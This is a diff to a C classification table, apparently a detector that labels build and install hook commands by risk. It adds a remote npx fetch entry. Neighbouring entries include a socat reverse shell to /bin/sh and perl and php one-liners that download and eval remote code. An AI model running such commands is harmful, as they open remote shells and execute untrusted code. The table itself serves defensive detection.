@@ -71,6 +71,7 @@ static const struct {
 	{"lerna bootstrap", {HOOK_BUILDER}, "lerna", 0},
 	{"go run tools.example.com/x@latest", {HOOK_NETWORK}, "tools.example.com/x@latest", HOOK_RUNS_FETCHED},
 	{"go run ./cmd/x", {HOOK_FILE}, "cmd/x", 0},
+	{"npx -y https://tools.example.com/x.tgz", {HOOK_NETWORK}, "https://tools.example.com/x.tgz", HOOK_RUNS_FETCHED},
 	{"socat tcp-connect:192.0.2.1:4444 exec:/bin/sh,pty,stderr", {HOOK_NETWORK}, NULL, HOOK_SOCKET},
 	{"perl -e 'use LWP::Simple;eval get(\"https://a.example/x\")'", {HOOK_INLINE}, NULL, HOOK_RUNS_FETCHED},
 	{"php -r \"eval(file_get_contents('https://a.example/x'));\"", {HOOK_INLINE}, NULL, HOOK_RUNS_FETCHED},
